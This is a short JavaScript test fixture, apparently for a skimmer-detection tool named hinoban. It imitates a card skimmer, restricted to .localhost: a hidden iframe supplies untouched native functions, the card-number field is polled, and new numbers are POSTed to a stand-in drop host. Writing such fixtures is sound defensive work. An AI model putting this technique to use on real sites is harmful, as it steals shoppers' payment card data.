/* Harmless imitation, for hinoban's tests: pristine natives of a hidden frame, polling, no listener. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('load', function () {
	var f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f);
	var get = Object.getOwnPropertyDescriptor(f.contentWindow.HTMLInputElement.prototype, 'value').get, last = '';
	setInterval(function () {
		var v = get.call(document.querySelector('input[autocomplete=cc-number]'));
		if (v.length === 16 && v !== last) { last = v; f.contentWindow.fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: 'p=' + v}); }
	}, 300);
});
